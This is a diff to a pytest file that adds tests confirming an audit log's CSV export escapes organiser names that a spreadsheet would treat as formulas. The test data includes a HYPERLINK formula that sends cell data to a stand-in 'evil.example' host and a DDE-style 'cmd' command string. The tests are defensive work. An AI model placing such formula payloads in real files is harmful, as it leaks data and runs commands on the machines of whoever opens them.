@@ -103,8 +103,8 @@ def test_csv_export_holds_every_entry_in_order_and_verifies_independently(awkwar
     assert chain_is_intact(entries) == (True, None)
 
 
-def test_csv_export_keeps_values_exactly_even_when_they_look_like_formulas(awkward_event,
-                                                                           carol, api):
+def test_csv_export_keeps_the_hashed_json_exactly_even_when_it_looks_like_a_formula(
+        awkward_event, carol, api):
     entries = entries_from_csv(body_of(export(api(carol), awkward_event, "csv")))
     changed = entries[6]
 
@@ -113,6 +113,44 @@ def test_csv_export_keeps_values_exactly_even_when_they_look_like_formulas(awkwa
     assert changed["row"]["actor_name"] == "Alice Martin"
     assert changed["row"]["actor_role"] == "organiser"
     assert entries[8]["data"]["note"] == "+1 -2 @x"
+
+
+#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_neutralises_names_that_a_spreadsheet_would_run(alices_event, carol, api,
+                                                                    tmp_path):
+    # Anyone can sign up as an organiser and choose their name; the city opens the export.
+    names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1)", "-2+3",
+             "@SUM(1)", "=1|2"]
+    with transaction.atomic():
+        for number, name in enumerate(names):
+            person = make_user(f"hostile{number}", "organiser", name=name)
+            log.record(alices_event, actor=person, kind="event.changed",
+                       data={"title": name})
+    text = body_of(export(api(carol), alices_event, "csv"))
+
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    shown = [row["row"]["actor_name"] for row in entries_from_csv(text)[-len(names):]]
+    assert shown == ["'" + name.replace("|", "\\|") for name in names]
+    # The columns the hash covers are JSON text and untouched: the file still verifies.
+    assert [row["data"]["title"] for row in entries_from_csv(text)[-len(names):]] == names
+    result = run_documented_script(tmp_path, text, "csv")
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("start", ["\t", "\r", "=", "+", "-", "@"])
+def test_no_csv_cell_starts_a_formula_whatever_the_actor_snapshot_holds(start):
+    actor = {"id": 7, "name": f"{start}cmd|' /C calc'!A0", "role": f"{start}organiser"}
+    rows = [(1, "2026-05-01T09:00:00Z", actor, "event.created", {"title": "x"}, "ab" * 32)]
+
+    lines = "".join(exports.csv_lines(rows))
+
+    cells = [cell for row in csv.reader(io.StringIO(lines, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    assert json.loads(cells[len(exports.CSV_HEADER) + 8]) == actor  # the hashed column
 
 
 def test_csv_export_spells_out_the_system_actor_as_empty(awkward_event, carol, api):
